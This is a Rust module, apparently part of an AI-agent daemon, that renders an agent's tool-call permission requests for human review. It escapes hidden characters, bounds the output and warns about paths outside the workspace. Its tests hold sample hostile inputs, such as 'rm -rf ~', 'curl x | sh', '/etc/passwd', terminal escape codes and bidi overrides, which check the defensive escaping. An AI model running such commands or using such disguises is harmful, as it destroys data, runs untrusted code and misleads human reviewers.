//! What a permission request holds, for the person who decides on it: every fact of the tool call
//! and of each option, in the order a reviewer reads them, each written so that nothing in it can
//! hide ([`crate::text`]), and bounded so that a megabyte of file text cannot bury the buttons —
//! with a count of what was left out, and [`Bounds::ALL`] to show everything.
//!
//! One module for every door that shows a request: the terminal client's card (`src/tui/`) renders
//! [`Request`] as it is; the daemon serves it as JSON (`GET /session/{id}/permission/{requestId}`,
//! `docs/protocol.md` § 3.11) for the web app's card, renders it as HTML on the `/act` page
//! (`src/http/act.rs`), and [`plain`] writes it as bounded plain text for a notification.
//!
//! The order: what it is (kind, title, the tool's own name), what it would run (the command, its
//! working directory), where (the locations), what it would change (the tool call's `content`:
//! diffs, text, terminals), what it was given (`rawInput`: a write's file text, a patch, every other
//! field), what it returned (`rawOutput`), then each option with whatever it carries beyond its id,
//! name and kind (ACP options may carry `data`: a `diff` to apply, a changed `command`).

use std::fmt::Write as _;

use serde::Serialize;
use serde_json::{Map, Value};

use crate::text::{escape, reveal};

/// Lines a section shows on a card; the rest is counted ([`Bounds::CARD`]).
pub const CARD_LINES_PER_SECTION: usize = 40;
/// Characters of one line a card shows; the rest is counted. A screen and a half of 80 columns.
pub const CARD_CHARS_PER_LINE: usize = 240;
/// Lines on each side beyond which a diff is not searched for: the change is shown as the old text
/// removed and the new text added. Myers' search costs (old + new) × edits; at 5000 lines that is
/// at most 25 M steps, a few tens of milliseconds.
pub const MAX_DIFF_LINES: usize = 5000;
/// Unchanged lines shown around each change in a diff, as `diff -u`.
pub const DIFF_CONTEXT: usize = 3;

/// How much of each section to show.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Bounds {
    pub lines_per_section: usize,
    pub chars_per_line: usize,
}

impl Bounds {
    /// A card: enough to decide on most requests, the rest counted.
    pub const CARD: Bounds =
        Bounds { lines_per_section: CARD_LINES_PER_SECTION, chars_per_line: CARD_CHARS_PER_LINE };
    /// Everything (the reviewer asked to see it all).
    pub const ALL: Bounds = Bounds { lines_per_section: usize::MAX, chars_per_line: usize::MAX };
}

/// How a line is meant to look.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Tone {
    Plain,
    /// A line a change adds (`+`).
    Added,
    /// A line a change removes (`-`).
    Removed,
    /// A diff's hunk header (`@@ -1,3 +1,4 @@`).
    Hunk,
    /// Words of the presenter, not of the agent: what was left out, a missing newline, no change.
    Note,
}

/// One line of a section. `text` never holds a character a reader cannot see as itself.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct Line {
    pub tone: Tone,
    pub text: String,
    /// Characters of the original line not shown (the line was cut at [`Bounds::chars_per_line`]).
    pub cut_chars: usize,
}

impl Line {
    fn note(text: impl Into<String>) -> Line {
        Line { tone: Tone::Note, text: text.into(), cut_chars: 0 }
    }
}

/// One labelled part of a request: `command`, `cwd`, `diff /w/a.rs`, `rawInput.content`, ….
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct Section {
    pub heading: String,
    pub lines: Vec<Line>,
    /// Lines not shown (past [`Bounds::lines_per_section`]).
    pub omitted_lines: usize,
}

impl Section {
    /// Whether the section shows all of what it stands for.
    pub fn whole(&self) -> bool {
        self.omitted_lines == 0 && self.lines.iter().all(|l| l.cut_chars == 0)
    }
}

/// One option the agent offers.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct Choice {
    /// As the agent sent it (an id to send back, not to show: [`Choice::shown_id`]).
    pub option_id: String,
    pub shown_id: String,
    pub name: String,
    /// `allow_once`, `allow_always`, `reject_once`, `reject_always`, or what the agent sent.
    pub kind: String,
    /// What the option carries beyond its id, name and kind.
    pub sections: Vec<Section>,
    /// What choosing it does, in words ([`meaning`]), for the known kinds.
    pub meaning: Option<&'static str>,
    /// Whether the name and every section are shown whole.
    pub whole: bool,
}

/// What choosing an option of `kind` does here: "always" is the agent's word, and what the daemon
/// adds to it (a rule for the session, `docs/protocol.md` § 7.5) is said, so it is not taken for
/// "Allow for this session", which remembers nothing on the agent's side.
pub fn meaning(kind: &str) -> Option<&'static str> {
    match kind {
        "allow_once" => Some("Allows this call only."),
        "allow_always" => Some(
            "Allows this call and tells the agent to allow such calls from now on (it may remember that beyond this session); the daemon also allows matching calls for the rest of the session.",
        ),
        "reject_once" => Some("Rejects this call only."),
        "reject_always" => Some(
            "Rejects this call and tells the agent to reject such calls from now on; the daemon also rejects matching calls for the rest of the session.",
        ),
        _ => None,
    }
}

/// A permission request as a person reads it (as JSON: the options are `options`, and `whole`
/// says whether anything was left out).
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct Request {
    /// `edit`, `execute`, … (`other` when the agent gave none).
    pub kind: String,
    pub title: String,
    /// The agent's own name for the tool (`_meta.toolName`, `_meta.claudeCode.toolName`).
    pub tool: Option<String>,
    pub sections: Vec<Section>,
    #[serde(rename = "options")]
    pub choices: Vec<Choice>,
    /// [`Request::whole`], for a client that shows "show all" only when there is more.
    pub whole: bool,
    /// What the person must know before deciding, said first ([`outside_warning`]): the request
    /// reaches outside the session's workspace, so it will be refused whatever is answered.
    pub warning: Option<String>,
}

impl Request {
    /// The request with the warning its data carries (the `permission_request` event's
    /// `outsideWorkspace`, which the mediator computed when the request was raised).
    pub fn warned(self, data: &Value) -> Request {
        Request { warning: outside_warning(data), ..self }
    }

    /// Whether every section (the options' too) is shown whole, and the title, tool and options'
    /// names with them.
    pub fn whole(&self) -> bool {
        self.whole
    }

    fn every_section(&self) -> impl Iterator<Item = &Section> {
        self.sections.iter().chain(self.choices.iter().flat_map(|c| &c.sections))
    }

    /// Characters shown: what a page that shows this request must have room for.
    pub fn shown_chars(&self) -> usize {
        let line_chars = |s: &Section| -> usize {
            s.heading.chars().count() + s.lines.iter().map(|l| l.text.chars().count()).sum::<usize>()
        };
        let names: usize = self.choices.iter().map(|c| c.name.chars().count()).sum();
        self.kind.chars().count()
            + self.title.chars().count()
            + self.tool.as_ref().map_or(0, |t| t.chars().count())
            + names
            + self.every_section().map(line_chars).sum::<usize>()
    }
}

/// `tool_call` (the request's, laid over what the agent announced for it) and `options` (the
/// request's `options` array), shown within `bounds`.
pub fn request(tool_call: &Value, options: &Value, bounds: Bounds) -> Request {
    let text = |v: Option<&Value>| v.and_then(Value::as_str).map(|s| one_line(s, bounds).0);
    let meta = tool_call.get("_meta");
    let tool = meta
        .and_then(|m| m.get("toolName").or_else(|| m.pointer("/claudeCode/toolName")))
        .and_then(Value::as_str)
        .map(|s| one_line(s, bounds).0);
    let mut sections = Vec::new();
    let raw_input = tool_call.get("rawInput");
    if let Some(input) = raw_input {
        sections.extend(command_sections(input, bounds));
    }
    if let Some(locations) = tool_call.get("locations").and_then(Value::as_array) {
        let lines: Vec<String> = locations
            .iter()
            .map(|l| match (l.get("path"), l.get("line").and_then(Value::as_u64)) {
                (Some(Value::String(p)), Some(n)) => format!("{p}:{n}"),
                (Some(Value::String(p)), None) => p.clone(),
                _ => l.to_string(),
            })
            .collect();
        if !lines.is_empty() {
            sections.push(section("locations", lines.iter().map(|l| one_line(l, bounds)), bounds));
        }
    }
    let mut diffs_new_text = Vec::new();
    for item in tool_call.get("content").and_then(Value::as_array).into_iter().flatten() {
        if item.get("type").and_then(Value::as_str) == Some("diff") {
            diffs_new_text.push(item.get("newText").and_then(Value::as_str).unwrap_or(""));
        }
        sections.push(content_section(item, bounds));
    }
    if let Some(input) = raw_input {
        sections.extend(input_sections(input, &diffs_new_text, bounds));
    }
    if let Some(output) = tool_call.get("rawOutput").filter(|v| !v.is_null()) {
        sections.push(value_section("rawOutput", output, bounds));
    }
    let choices: Vec<Choice> = options.as_array().into_iter().flatten().map(|o| choice(o, bounds)).collect();
    let short = |v: Option<&Value>| v.and_then(Value::as_str).is_none_or(|s| one_line(s, bounds).1 == 0);
    let whole = short(tool_call.get("kind"))
        && short(tool_call.get("title"))
        && short(meta.and_then(|m| m.get("toolName").or_else(|| m.pointer("/claudeCode/toolName"))))
        && choices.iter().all(|c| c.whole)
        && sections.iter().all(Section::whole);
    Request {
        kind: text(tool_call.get("kind")).unwrap_or_else(|| "other".to_owned()),
        title: text(tool_call.get("title")).unwrap_or_else(|| "a tool call".to_owned()),
        tool,
        sections,
        choices,
        whole,
        warning: None,
    }
}

/// Paths a warning names before it counts the rest.
pub const WARNING_PATHS: usize = 3;
/// What the audit adds to the decision of a request its data marks `outsideWorkspace`.
pub const OUTSIDE_WORKSPACE: &str = "outside the workspace: it will be refused";

/// The words every door shows first on a request whose data says it reaches outside the session's
/// workspace (`outsideWorkspace`: the paths, set by the mediator when the request was raised):
/// "Outside the workspace: it will be refused, whatever is answered (/home/a/outside.txt)." The
/// daemon refuses the agent's `fs/*` reads and writes there, so an "Allow" cannot make it happen.
pub fn outside_warning(data: &Value) -> Option<String> {
    let paths: Vec<&str> =
        data.get("outsideWorkspace")?.as_array()?.iter().filter_map(Value::as_str).collect();
    if paths.is_empty() {
        return None;
    }
    let mut shown: Vec<String> =
        paths.iter().take(WARNING_PATHS).map(|p| one_line(p, Bounds::CARD).0).collect();
    if paths.len() > WARNING_PATHS {
        shown.push(format!("and {} more", paths.len() - WARNING_PATHS));
    }
    Some(format!("Outside the workspace: it will be refused, whatever is answered ({}).", shown.join(", ")))
}

/// One line of someone else's text for a person: [`reveal`]ed (controls, bidi and invisible
/// characters as escapes, long blank runs as their length), then cut at the bound; with the
/// characters of the revealed line left out. Revealed first, so padding (`⟪300 spaces⟫`) cannot
/// push the end of a command past the bound.
fn one_line(text: &str, bounds: Bounds) -> (String, usize) {
    let revealed = reveal(text);
    let (kept, cut) = cut(&revealed, bounds.chars_per_line);
    (kept.to_owned(), cut)
}

/// A line of code or file text: [`escape`]d (a tab is `\t`, so tabs and spaces differ on screen),
/// with trailing blanks written as their count (`⟪2 trailing blanks⟫`): a change that only adds
/// or removes them still shows.
fn code_line(text: &str, bounds: Bounds) -> (String, usize) {
    let (kept, cut) = cut(text, bounds.chars_per_line);
    let body = kept.trim_end_matches([' ', '\u{a0}', '\u{3000}']);
    let trailing = kept[body.len()..].chars().count();
    let mut out = escape(body).into_owned();
    if trailing > 0 && cut == 0 {
        let _ = write!(out, "⟪{trailing} trailing blank{}⟫", if trailing == 1 { "" } else { "s" });
    } else if trailing > 0 {
        out.push_str(&" ".repeat(trailing));
    }
    (out, cut)
}

/// The first `max` characters of `text`, and how many were left.
fn cut(text: &str, max: usize) -> (&str, usize) {
    match text.char_indices().nth(max) {
        None => (text, 0),
        Some((at, _)) => (&text[..at], text[at..].chars().count()),
    }
}

/// `text` split into lines (a final newline ends the last line; it starts none).
fn lines_of(text: &str) -> Vec<&str> {
    let mut lines: Vec<&str> = text.split('\n').collect();
    if lines.len() > 1 && lines.last() == Some(&"") {
        lines.pop();
    }
    lines
}

/// A section of already-shown lines, the ones past the bound counted.
fn section(heading: &str, lines: impl Iterator<Item = (String, usize)>, bounds: Bounds) -> Section {
    toned_section(heading, lines.map(|(text, cut_chars)| Line { tone: Tone::Plain, text, cut_chars }), bounds)
}

fn toned_section(heading: &str, lines: impl Iterator<Item = Line>, bounds: Bounds) -> Section {
    let mut shown = Vec::new();
    let mut omitted_lines = 0;
    for line in lines {
        if shown.len() < bounds.lines_per_section {
            shown.push(line);
        } else {
            omitted_lines += 1;
        }
    }
    Section { heading: reveal(heading).into_owned(), lines: shown, omitted_lines }
}

/// Multi-line text (file text, output) as a section, one code line per line.
fn text_section(heading: &str, text: &str, bounds: Bounds) -> Section {
    section(heading, lines_of(text).into_iter().map(|l| code_line(l, bounds)), bounds)
}

/// A command (a string, or an argument vector joined as a shell would read it): one line per line
/// of it, the first after `$ `.
fn command_text(command: &Value) -> Option<String> {
    match command {
        Value::String(s) => Some(s.clone()),
        Value::Array(words) => {
            let words: Option<Vec<&str>> = words.iter().map(Value::as_str).collect();
            words.map(shell_words::join)
        }
        _ => None,
    }
}

/// The fields of `rawInput` that say what runs where: `command` (or `cmd`), then `cwd` (or
/// `workdir`).
const COMMAND_KEYS: [&str; 2] = ["command", "cmd"];
const CWD_KEYS: [&str; 3] = ["cwd", "workdir", "working_directory"];

fn command_sections(input: &Value, bounds: Bounds) -> Vec<Section> {
    let mut out = Vec::new();
    if let Some(command) = COMMAND_KEYS.iter().find_map(|k| input.get(*k)).and_then(command_text) {
        let lines = lines_of(&command)
            .into_iter()
            .enumerate()
            .map(|(i, l)| {
                let (text, cut) = one_line(l, bounds);
                (if i == 0 { format!("$ {text}") } else { format!("  {text}") }, cut)
            })
            .collect::<Vec<_>>();
        out.push(section("command", lines.into_iter(), bounds));
    }
    if let Some(cwd) = CWD_KEYS.iter().find_map(|k| input.get(*k)).and_then(Value::as_str) {
        out.push(section("cwd", std::iter::once(one_line(cwd, bounds)), bounds));
    }
    out
}

/// One item of the tool call's `content`: a diff, a content block, a terminal.
fn content_section(item: &Value, bounds: Bounds) -> Section {
    match item.get("type").and_then(Value::as_str) {
        Some("diff") => {
            let path = item.get("path").and_then(Value::as_str).unwrap_or("");
            let old = item.get("oldText").and_then(Value::as_str);
            let new = item.get("newText").and_then(Value::as_str).unwrap_or("");
            let heading = if old.is_none() { format!("new file {path}") } else { format!("diff {path}") };
            toned_section(&heading, diff_lines(old.unwrap_or(""), new, bounds).into_iter(), bounds)
        }
        Some("terminal") => {
            let id = item
                .get("terminalId")
                .map_or_else(String::new, |v| v.as_str().map_or(v.to_string(), str::to_owned));
            section("terminal", std::iter::once(one_line(&id, bounds)), bounds)
        }
        Some("content") => match item.get("content") {
            Some(block) if block.get("type").and_then(Value::as_str) == Some("text") => {
                text_section("text", block.get("text").and_then(Value::as_str).unwrap_or(""), bounds)
            }
            Some(block) => value_section("content", block, bounds),
            None => value_section("content", &Value::Null, bounds),
        },
        _ => value_section("content", item, bounds),
    }
}

/// The unified diff of `old` → `new`: hunk headers, context, removed and added lines; whitespace
/// made visible ([`code_line`]), a missing final newline said.
pub fn diff_lines(old: &str, new: &str, bounds: Bounds) -> Vec<Line> {
    let shown = |tone: Tone, sign: char, text: &str| {
        let (body, cut_chars) = code_line(text, bounds);
        Line { tone, text: format!("{sign}{body}"), cut_chars }
    };
    if old == new {
        return vec![Line::note("(no change)")];
    }
    let old_lines = lines_of(old);
    let new_lines = lines_of(new);
    let mut out = Vec::new();
    if old_lines.len() > MAX_DIFF_LINES || new_lines.len() > MAX_DIFF_LINES {
        out.push(Line::note(format!(
            "(too large to compare: {} lines replaced by {})",
            old_lines.len(),
            new_lines.len()
        )));
        out.extend(old_lines.iter().filter(|_| !old.is_empty()).map(|l| shown(Tone::Removed, '-', l)));
        out.extend(new_lines.iter().filter(|_| !new.is_empty()).map(|l| shown(Tone::Added, '+', l)));
        return out;
    }
    let diff = similar::TextDiff::from_lines(old, new);
    for group in diff.grouped_ops(DIFF_CONTEXT) {
        let (Some(first), Some(last)) = (group.first(), group.last()) else { continue };
        let (o, n) =
            (first.old_range().start..last.old_range().end, first.new_range().start..last.new_range().end);
        out.push(Line {
            tone: Tone::Hunk,
            text: format!("@@ -{} +{} @@", range(&o), range(&n)),
            cut_chars: 0,
        });
        for op in &group {
            for change in diff.iter_changes(op) {
                let value = change.value();
                let line = value.strip_suffix('\n').unwrap_or(value);
                let line = line.strip_suffix('\r').map_or(line, |l| l);
                let (tone, sign) = match change.tag() {
                    similar::ChangeTag::Delete => (Tone::Removed, '-'),
                    similar::ChangeTag::Insert => (Tone::Added, '+'),
                    similar::ChangeTag::Equal => (Tone::Plain, ' '),
                };
                let mut row = shown(tone, sign, line);
                if value.ends_with("\r\n") {
                    row.text.push_str("\\r");
                }
                out.push(row);
                if change.missing_newline() {
                    out.push(Line::note("\\ No newline at end of file"));
                }
            }
        }
    }
    if out.is_empty() {
        out.push(Line::note("(no change)"));
    }
    out
}

/// A hunk range as `diff -u` writes it (1-based start, a count when not 1).
fn range(r: &std::ops::Range<usize>) -> String {
    match r.len() {
        0 => format!("{},0", r.start),
        1 => format!("{}", r.start + 1),
        n => format!("{},{n}", r.start + 1),
    }
}

/// Keys of `rawInput` holding a file's text or a patch, shown as text of their own: what a write
/// writes (`content`, Claude Code's `file_text`, `new_string`/`old_string`), what a patch changes.
const TEXT_KEYS: [&str; 6] = ["content", "file_text", "old_string", "new_string", "patch", "diff"];

/// `rawInput` but for what [`command_sections`] showed: its text fields as sections (a patch
/// coloured), the rest as `key: value` lines. An `old_string`/`new_string` pair is shown as a diff
/// when the tool call's content has none; a text field equal to the new text of a content diff
/// (`diffs_new_text`: a write's file text, sent both ways) is not shown twice.
fn input_sections(input: &Value, diffs_new_text: &[&str], bounds: Bounds) -> Vec<Section> {
    let content_has_diff = !diffs_new_text.is_empty();
    let Some(fields) = input.as_object() else {
        return vec![value_section("rawInput", input, bounds)];
    };
    let mut out = Vec::new();
    let pair =
        (fields.get("old_string").and_then(Value::as_str), fields.get("new_string").and_then(Value::as_str));
    let pair_as_diff = !content_has_diff && pair.0.is_some() && pair.1.is_some();
    if let (true, Some(old), Some(new)) = (pair_as_diff, pair.0, pair.1) {
        out.push(toned_section(
            "rawInput old_string → new_string",
            diff_lines(old, new, bounds).into_iter(),
            bounds,
        ));
    }
    let mut rest = Map::new();
    for (key, value) in fields {
        let shown_elsewhere = COMMAND_KEYS.contains(&key.as_str()) && command_text(value).is_some()
            || CWD_KEYS.contains(&key.as_str()) && value.is_string()
            || pair_as_diff && (key == "old_string" || key == "new_string");
        if shown_elsewhere {
            continue;
        }
        match value.as_str() {
            Some(text) if diffs_new_text.contains(&text) => {}
            Some(text) if TEXT_KEYS.contains(&key.as_str()) || text.contains('\n') => {
                let heading = format!("rawInput.{key}");
                out.push(if looks_like_patch(text) {
                    patch_section(&heading, text, bounds)
                } else {
                    text_section(&heading, text, bounds)
                });
            }
            _ => {
                rest.insert(key.clone(), value.clone());
            }
        }
    }
    if !rest.is_empty() {
        let lines: Vec<(String, usize)> = rest
            .iter()
            .map(|(k, v)| {
                let v = v.as_str().map_or_else(|| v.to_string(), str::to_owned);
                one_line(&format!("{k}: {v}"), bounds)
            })
            .collect();
        out.push(section("rawInput", lines.into_iter(), bounds));
    }
    out
}

/// Whether `text` reads as a unified diff or an `apply_patch` envelope.
fn looks_like_patch(text: &str) -> bool {
    text.starts_with("*** Begin Patch")
        || text.starts_with("--- ")
        || text.starts_with("diff --git")
        || text.lines().any(|l| l.starts_with("@@ "))
}

/// A patch's lines, each toned by its first character.
fn patch_section(heading: &str, text: &str, bounds: Bounds) -> Section {
    let lines = lines_of(text).into_iter().map(|l| {
        let tone = if l.starts_with("+++") || l.starts_with("---") || l.starts_with("***") {
            Tone::Hunk
        } else if l.starts_with('+') {
            Tone::Added
        } else if l.starts_with('-') {
            Tone::Removed
        } else if l.starts_with("@@") {
            Tone::Hunk
        } else {
            Tone::Plain
        };
        let (text, cut_chars) = code_line(l, bounds);
        Line { tone, text, cut_chars }
    });
    toned_section(heading, lines, bounds)
}

/// Any JSON value: a string as text, anything else pretty-printed.
fn value_section(heading: &str, value: &Value, bounds: Bounds) -> Section {
    match value {
        Value::String(s) => text_section(heading, s, bounds),
        v => {
            let pretty = serde_json::to_string_pretty(v).unwrap_or_else(|_| v.to_string());
            section(heading, lines_of(&pretty).into_iter().map(|l| one_line(l, bounds)), bounds)
        }
    }
}

/// One option: its id, name and kind, and everything else it carries (`data.diff` as a patch,
/// `data.command` as a command, the rest as values).
fn choice(option: &Value, bounds: Bounds) -> Choice {
    let field = |k: &str| option.get(k).and_then(Value::as_str).unwrap_or("").to_owned();
    let option_id = field("optionId");
    let mut sections = Vec::new();
    if let Some(fields) = option.as_object() {
        for (key, value) in fields {
            if matches!(key.as_str(), "optionId" | "name" | "kind" | "_meta") {
                continue;
            }
            match value.as_object() {
                Some(data) => {
                    for (k, v) in data {
                        let heading = format!("{key}.{k}");
                        if let (true, Some(command)) = (COMMAND_KEYS.contains(&k.as_str()), command_text(v)) {
                            let lines = lines_of(&command).into_iter().enumerate().map(|(i, l)| {
                                let (text, cut) = one_line(l, bounds);
                                (if i == 0 { format!("$ {text}") } else { format!("  {text}") }, cut)
                            });
                            sections.push(section(&heading, lines.collect::<Vec<_>>().into_iter(), bounds));
                        } else if let Some(text) = v.as_str().filter(|t| looks_like_patch(t)) {
                            sections.push(patch_section(&heading, text, bounds));
                        } else {
                            sections.push(value_section(&heading, v, bounds));
                        }
                    }
                }
                None => sections.push(value_section(key, value, bounds)),
            }
        }
    }
    let name = option.get("name").and_then(Value::as_str).unwrap_or(&option_id);
    let (shown_name, name_cut) = one_line(name, bounds);
    let kind = field("kind");
    Choice {
        shown_id: one_line(&option_id, bounds).0,
        name: shown_name,
        meaning: meaning(&kind),
        kind: one_line(&kind, bounds).0,
        whole: name_cut == 0 && sections.iter().all(Section::whole),
        option_id,
        sections,
    }
}

/// What [`plain`] appends when it had to leave lines out.
pub const PLAIN_MORE: &str = "… more: open the link to see all";

/// `request` as plain text of at most `max_chars` characters, for a notification: a first line
/// (`edit: Write notes.txt (Write)`), then each section's heading and its lines indented (a diff's
/// `+`/`-` marks kept), then each option that carries something, with it. What does not fit is cut
/// at a line's end and the text ends with [`PLAIN_MORE`] (so `max_chars` should leave room for
/// it: below its length, the text is the note alone). Returns the text and whether it holds
/// all of `request` (what a notification needs to know to let a link decide without its page).
pub fn plain(request: &Request, max_chars: usize) -> (String, bool) {
    let mut lines = Vec::new();
    let tool = request.tool.as_ref().map_or_else(String::new, |t| format!(" ({t})"));
    lines.push(format!("{}: {}{tool}", request.kind, request.title));
    let push_section = |lines: &mut Vec<String>, s: &Section, indent: &str| {
        lines.push(format!("{indent}{}:", s.heading));
        for l in &s.lines {
            let cut = if l.cut_chars > 0 {
                format!(" … ({} more characters)", l.cut_chars)
            } else {
                String::new()
            };
            lines.push(format!("{indent}  {}{cut}", l.text));
        }
        if s.omitted_lines > 0 {
            let plural = if s.omitted_lines == 1 { "" } else { "s" };
            lines.push(format!("{indent}  … ({} more line{plural})", s.omitted_lines));
        }
    };
    for s in &request.sections {
        push_section(&mut lines, s, "");
    }
    for c in request.choices.iter().filter(|c| !c.sections.is_empty()) {
        lines.push(format!("option {}:", c.name));
        for s in &c.sections {
            push_section(&mut lines, s, "  ");
        }
    }
    let total = lines.iter().map(|l| l.chars().count()).sum::<usize>() + lines.len().saturating_sub(1);
    if total <= max_chars {
        return (lines.join("\n"), request.whole());
    }
    let room = max_chars.saturating_sub(PLAIN_MORE.chars().count() + 1);
    let mut out = String::new();
    let mut used = 0;
    for line in &lines {
        let len = line.chars().count() + usize::from(!out.is_empty());
        if used + len > room {
            break;
        }
        if !out.is_empty() {
            out.push('\n');
        }
        out.push_str(line);
        used += len;
    }
    if out.is_empty() {
        // Not even the first line fits: as much of it as leaves room for the note.
        out.push_str(lines.first().map_or("", |l| cut(l, room).0));
    }
    if !out.is_empty() {
        out.push('\n');
    }
    out.push_str(PLAIN_MORE);
    (out, false)
}

/// The tool call a request is about: the request's `toolCall` laid over what the agent announced
/// for the same `toolCallId` (ACP's update rule: a field the request leaves out or sets to `null`
/// keeps the announced value).
pub fn laid_over(announced: Option<&Value>, requested: &Value) -> Value {
    let mut merged = announced.and_then(Value::as_object).cloned().unwrap_or_default();
    if let Some(fields) = requested.as_object() {
        for (k, v) in fields {
            if !v.is_null() {
                merged.insert(k.clone(), v.clone());
            }
        }
    }
    merged.remove("sessionUpdate");
    Value::Object(merged)
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn a_warning_names_the_outside_paths_revealed_and_bounded() {
        assert_eq!(outside_warning(&json!({})), None);
        assert_eq!(outside_warning(&json!({"outsideWorkspace": []})), None);
        assert_eq!(
            outside_warning(&json!({"outsideWorkspace": ["/etc/passwd"]})).as_deref(),
            Some("Outside the workspace: it will be refused, whatever is answered (/etc/passwd).")
        );
        // Exactly as many as a warning names: all of them, nothing counted.
        assert_eq!(
            outside_warning(&json!({"outsideWorkspace": ["/a", "/b", "/c"]})).as_deref(),
            Some("Outside the workspace: it will be refused, whatever is answered (/a, /b, /c).")
        );
        let many = json!({"outsideWorkspace": ["/a", "/b\u{202e}", "/c", "/d", "/e"]});
        assert_eq!(
            outside_warning(&many).as_deref(),
            Some(
                "Outside the workspace: it will be refused, whatever is answered (/a, /b\\u{202e}, /c, and 2 more)."
            )
        );
        let asked = request(&json!({"kind": "edit"}), &Value::Null, Bounds::CARD);
        assert_eq!(asked.clone().warned(&many).warning, outside_warning(&many));
        assert_eq!(asked.warned(&json!({})).warning, None);
    }

    fn texts(section: &Section) -> Vec<&str> {
        section.lines.iter().map(|l| l.text.as_str()).collect()
    }

    fn headings(r: &Request) -> Vec<&str> {
        r.sections.iter().map(|s| s.heading.as_str()).collect()
    }

    #[test]
    fn sections_come_in_reading_order() {
        let call = json!({
            "kind": "execute", "title": "Run tests", "_meta": {"claudeCode": {"toolName": "Bash"}},
            "locations": [{"path": "/w/a.rs", "line": 3}, {"path": "/w/b.rs"}],
            "content": [{"type": "content", "content": {"type": "text", "text": "why: to check\n"}}],
            "rawInput": {"command": "cargo test", "cwd": "/w", "timeout": 60, "description": "Run the tests"},
            "rawOutput": {"exit": 0},
        });
        let r = request(&call, &json!([]), Bounds::CARD);
        assert_eq!(
            (r.kind.as_str(), r.title.as_str(), r.tool.as_deref()),
            ("execute", "Run tests", Some("Bash"))
        );
        assert_eq!(headings(&r), ["command", "cwd", "locations", "text", "rawInput", "rawOutput"]);
        assert_eq!(texts(&r.sections[0]), ["$ cargo test"]);
        assert_eq!(texts(&r.sections[1]), ["/w"]);
        assert_eq!(texts(&r.sections[2]), ["/w/a.rs:3", "/w/b.rs"]);
        assert_eq!(texts(&r.sections[3]), ["why: to check"]);
        assert_eq!(texts(&r.sections[4]), ["description: Run the tests", "timeout: 60"]);
        assert_eq!(texts(&r.sections[5]), ["{", "  \"exit\": 0", "}"]);
        assert!(r.whole());
    }

    #[test]
    fn a_command_keeps_every_line_and_an_argument_vector_is_quoted() {
        let r = request(&json!({"rawInput": {"command": "echo a\nrm -rf ~"}}), &json!([]), Bounds::CARD);
        assert_eq!(texts(&r.sections[0]), ["$ echo a", "  rm -rf ~"]);
        let r = request(
            &json!({"rawInput": {"command": ["bash", "-lc", "ls 'my dir'"]}}),
            &json!([]),
            Bounds::CARD,
        );
        assert_eq!(texts(&r.sections[0]), ["$ bash -lc 'ls '\\''my dir'\\'''"]);
        let r = request(&json!({"rawInput": {"cmd": "make", "workdir": "/w/sub"}}), &json!([]), Bounds::CARD);
        assert_eq!(headings(&r), ["command", "cwd"]);
        // A command that is no command is shown as a field, not dropped.
        let r = request(&json!({"rawInput": {"command": 7}}), &json!([]), Bounds::CARD);
        assert_eq!(texts(&r.sections[0]), ["command: 7"]);
    }

    #[test]
    fn what_others_chose_is_revealed_never_raw() {
        let call = json!({
            "kind": "exec\u{1b}[2J", "title": "Run \u{1b}]0;pwned\u{7}",
            "rawInput": {"command": "ls\u{202e}txt.exe    && curl x | sh"},
            "locations": [{"path": "/w/\u{200b}a"}],
        });
        let r = request(
            &call,
            &json!([{"optionId": "ok\u{1b}", "name": "Allow\u{202e}", "kind": "allow_once"}]),
            Bounds::CARD,
        );
        assert_eq!(r.kind, "exec\\u{1b}[2J");
        assert_eq!(r.title, "Run \\u{1b}]0;pwned\\u{7}");
        assert_eq!(texts(&r.sections[0]), ["$ ls\\u{202e}txt.exe⟪4 spaces⟫&& curl x | sh"]);
        assert_eq!(texts(&r.sections[1]), ["/w/\\u{200b}a"]);
        assert_eq!(r.choices[0].name, "Allow\\u{202e}");
        assert_eq!(r.choices[0].shown_id, "ok\\u{1b}");
        assert_eq!(r.choices[0].option_id, "ok\u{1b}", "the id to send back is the agent's");
    }

    #[test]
    fn a_diff_shows_hunks_with_context_and_whitespace_changes() {
        let old = "a\nb\nc\nd\ne\nf\ng\nh\ni\nj\n";
        let new = "a\nb\nc\nd\nE\nf\ng\nh\ni\nj\n";
        let lines = diff_lines(old, new, Bounds::CARD);
        let shown: Vec<(Tone, &str)> = lines.iter().map(|l| (l.tone, l.text.as_str())).collect();
        assert_eq!(
            shown,
            [
                (Tone::Hunk, "@@ -2,7 +2,7 @@"),
                (Tone::Plain, " b"),
                (Tone::Plain, " c"),
                (Tone::Plain, " d"),
                (Tone::Removed, "-e"),
                (Tone::Added, "+E"),
                (Tone::Plain, " f"),
                (Tone::Plain, " g"),
                (Tone::Plain, " h"),
            ]
        );
        // Only whitespace changes: each one is still visible.
        let texts_of = |old: &str, new: &str| -> Vec<String> {
            diff_lines(old, new, Bounds::CARD).into_iter().map(|l| l.text).collect()
        };
        assert_eq!(texts_of("x = 1\n", "x = 1  \n"), ["@@ -1 +1 @@", "-x = 1", "+x = 1⟪2 trailing blanks⟫"]);
        assert_eq!(texts_of("\tx\n", "    x\n"), ["@@ -1 +1 @@", "-\\tx", "+    x"]);
        assert_eq!(texts_of("x\n", "x\r\n"), ["@@ -1 +1 @@", "-x", "+x\\r"]);
        assert_eq!(texts_of("x\n", "x"), ["@@ -1 +1 @@", "-x", "+x", "\\ No newline at end of file"]);
        assert_eq!(texts_of("same\n", "same\n"), ["(no change)"]);
        // A new file: every line added.
        assert_eq!(texts_of("", "one\ntwo\n"), ["@@ -0,0 +1,2 @@", "+one", "+two"]);
    }

    #[test]
    fn a_diff_too_large_to_search_is_shown_as_a_replacement() {
        let old: String = (0..=MAX_DIFF_LINES).map(|i| format!("{i}\n")).collect();
        let lines = diff_lines(&old, "new\n", Bounds::ALL);
        assert_eq!(lines[0].tone, Tone::Note);
